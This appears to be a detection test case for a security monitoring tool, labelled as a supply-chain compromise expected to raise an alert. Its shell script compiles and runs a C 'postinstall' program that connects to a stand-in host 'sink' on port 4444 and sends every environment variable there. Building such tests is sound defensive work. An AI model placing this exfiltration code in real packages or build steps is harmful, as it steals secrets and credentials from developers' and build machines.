# id: B24
# title: A dependency's build step compiles a program that sends the environment away
# expect: alert
# severity: high
# kinds: process, network
# attck: T1195.002
# image: builder
# launch: app
# peers: sink:4444

mkdir -p /var/tmp/build/dep
cd /var/tmp/build/dep || exit 1
cat >postinstall.c <<'END'
#include <netdb.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
extern char **environ;
int main(void)
{
	struct addrinfo hints = { .ai_family = AF_INET, .ai_socktype = SOCK_STREAM }, *to = 0;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (getaddrinfo("sink", "4444", &hints, &to) != 0 || connect(fd, to->ai_addr, to->ai_addrlen) != 0)
		return 1;
	for (char **variable = environ; *variable; variable++)
		if (write(fd, *variable, strlen(*variable)) < 0)
			return 1;
	return 0;
}
END
cc -o postinstall postinstall.c
./postinstall
exit 0
